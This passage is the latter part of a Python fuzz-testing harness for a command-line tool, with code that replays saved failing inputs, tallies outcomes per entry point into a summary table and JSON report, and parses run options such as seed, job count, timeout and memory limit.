        for link in [p for p in Path(tmp).rglob("*") if p.is_symlink()]:  # links into the saved copy: into this one
            target = os.readlink(link)
            if target == saved or target.startswith(saved + os.sep):
                link.unlink()
                os.symlink(tmp + target[len(saved):], link)
        cwd = os.getcwd()
        os.chdir(work)
        try:
            result = call([resolve(arg, work) for arg in spec["call"]])
        finally:
            os.chdir(cwd)
    print(f"result: {result}", file=sys.stderr)
    return 0


# ---------------------------------------------------------------------------------------------------------------
# The whole run


def summarize(records: list[Record], seconds: float, settings: dict) -> dict:
    table = {}
    for record in records:
        row = table.setdefault(record.inp.entry, {"inputs": 0, **{o: 0 for o in OUTCOMES}, "refused_valid": 0,
                                                  "wrote_on_error": 0, "removed_link": 0, "seconds": 0.0})
        row["inputs"] += 1
        row[record.outcome] += 1
        row["seconds"] += record.seconds
        if record.outcome == "error" and record.inp.valid and not record.inp.bad:
            row["refused_valid"] += 1
        if record.wrote_on_error:
            row["wrote_on_error"] += 1
        if record.removed_links:
            row["removed_link"] += 1
    total = {"inputs": 0, **{o: 0 for o in OUTCOMES}, "refused_valid": 0, "wrote_on_error": 0, "removed_link": 0,
             "seconds": 0.0}
    for row in table.values():
        for key in total:
            total[key] += row[key]
    failures = [{"id": r.inp.id, "outcome": r.outcome, "detail": r.detail[:500], "call": r.inp.call,
                 "bad": r.inp.bad} for r in records if r.outcome in FAILURES]
    hints = [{"id": r.inp.id, "hint": "refused_valid" if r.outcome == "error" else "wrote_on_error",
              "detail": r.detail[:300], "wrote": r.wrote_on_error[:10], "call": r.inp.call}
             for r in records if r.outcome == "error" and ((r.inp.valid and not r.inp.bad) or r.wrote_on_error)]
    hints += [{"id": r.inp.id, "hint": "removed_link", "detail": r.detail[:300], "removed": r.removed_links,
               "call": r.inp.call} for r in records if r.removed_links]
    return {"settings": settings, "wall_seconds": seconds, "entries": table, "total": total, "failures": failures,
            "hints": hints}


def format_table(summary: dict) -> str:
    columns = ["inputs", *OUTCOMES, "refused_valid", "wrote_on_error", "removed_link", "seconds"]
    short = {"leftover_process": "leftover", "refused_valid": "refused_ok", "wrote_on_error": "wrote_err",
             "removed_link": "unlinked",
             "link_write": "link_wr", "raw_escape": "raw_esc", "traceback": "tracebk"}
    width = {c: max(7, len(short.get(c, c))) + 1 for c in columns}
    header = f"{'entry point':22s}" + "".join(f"{short.get(c, c):>{width[c]}s}" for c in columns)
    rows = [header, "-" * len(header)]
    for name, row in sorted(summary["entries"].items()) + [("TOTAL", summary["total"])]:
        rows.append(f"{name:22s}" + "".join(f"{row.get(c, 0):>{width[c]}.0f}" if c == "seconds" else
                                            f"{row.get(c, 0):>{width[c]}d}" for c in columns))
    rows.append(f"wall time {summary['wall_seconds']:.0f} s; failures ({', '.join(FAILURES)}): "
                f"{sum(summary['total'].get(o, 0) for o in FAILURES)}")
    return "\n".join(rows)


def fuzz(out: Path, inputs: int = 10_000, seed: int = 0, only: list[str] | None = None, jobs: int = 2,
         limits: Limits | None = None, quiet: bool = False, keep_all: bool = False) -> dict:
    """Generate and run ``inputs`` inputs; write ``out/summary.json``; return the summary."""
    limits = limits or Limits()
    out.mkdir(parents=True, exist_ok=True)
    os.environ.setdefault("HARNESS_CACHE_DIR", str(out / "cache"))
    start = time.monotonic()
    assets = Assets(out / "assets")
    assets.build()
    gc.freeze()  # the children's garbage collections then leave this process's objects (and their pages) alone
    runner = Runner(out, assets, limits, jobs=jobs, keep_all=keep_all)
    jobs_planned = plan(inputs, only)
    peers = start_peers() if any(entry == "hostile_peers" for entry, _ in jobs_planned) else None
    progress = Counter()

    def on_record(record: Record) -> None:
        progress[record.outcome] += 1
        done = sum(progress.values())
        if record.outcome in FAILURES and not quiet:
            print(f"  {record.outcome:9s} {record.inp.id}: {record.detail[:160]}", file=sys.stderr, flush=True)
        if not quiet and done % 500 == 0:
            print(f"[{done}/{len(jobs_planned)}] {dict(progress)} {time.monotonic() - start:.0f} s", file=sys.stderr,
                  flush=True)

    inputs_iter = (generate(seed, entry, index, assets) for entry, index in jobs_planned)
    try:
        records = runner.run(inputs_iter, on_record)
    finally:
        if peers:
            stop_peers(peers)
    settings = {"inputs": inputs, "seed": seed, "only": only, "jobs": jobs, **dataclasses.asdict(limits)}
    summary = summarize(records, time.monotonic() - start, settings)
    (out / "summary.json").write_text(json.dumps(summary, indent=1, default=str))
    shutil.rmtree(runner.work, ignore_errors=True)
    return summary


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0], formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("--inputs", type=int, default=10_000, help="inputs in all (default 10000)")
    parser.add_argument("--seed", type=int, default=0, help="seed of the generators (default 0)")
    parser.add_argument("--only", help=f"comma-separated entry points: {', '.join(GENERATORS)}")
    parser.add_argument("--out", default="reports/fuzz", help="output folder (default reports/fuzz)")
    parser.add_argument("--jobs", type=int, default=min(2, os.cpu_count() or 1), help="inputs at a time (default 2)")
    parser.add_argument("--timeout", type=float, default=60.0, help="seconds an input may take (default 60)")
    parser.add_argument("--memory-gib", type=float, default=1.0,
                        help="address space an input may add (default 1 GiB)")
    parser.add_argument("--mitsuba", action="store_true", help="let inputs import Mitsuba (slow)")
    parser.add_argument("--keep-all", action="store_true", help="save every input, not only the failing ones")
    parser.add_argument("--replay", metavar="FOLDER", help="run one saved input (OUT/failures/ID) in this process")
    parser.add_argument("--quiet", action="store_true")
    args = parser.parse_args(argv)
    if not os.environ.get(RUN_CANARY_VARIABLE) and argv is None:  # in the block the children's /proc/self/environ
        os.environ[RUN_CANARY_VARIABLE] = f"run-{os.urandom(12).hex()}"  # shows: this interpreter, started again
        os.execv(sys.executable, [sys.executable, *sys.argv])
    if args.replay:
        return replay(Path(args.replay))
    only = args.only.split(",") if args.only else None
    unknown = [name for name in only or [] if name not in GENERATORS]
    if unknown:
        parser.error(f"unknown entry points {unknown}; expected {', '.join(GENERATORS)}")
    out = Path(args.out)
    if out.exists() and (out / "summary.json").exists():
        shutil.rmtree(out / "failures", ignore_errors=True)
    summary = fuzz(out, args.inputs, args.seed, only, args.jobs,
                   Limits(args.timeout, args.memory_gib, mitsuba=args.mitsuba), quiet=args.quiet,
                   keep_all=args.keep_all)
    print(format_table(summary))
    print(f"summary: {out / 'summary.json'}; failing inputs: {out / 'failures'} (replay: python tests/cli/fuzz.py "
          "--replay FOLDER)")
    return 1 if any(summary["total"][o] for o in FAILURES) else 0


if __name__ == "__main__":
    sys.exit(main())
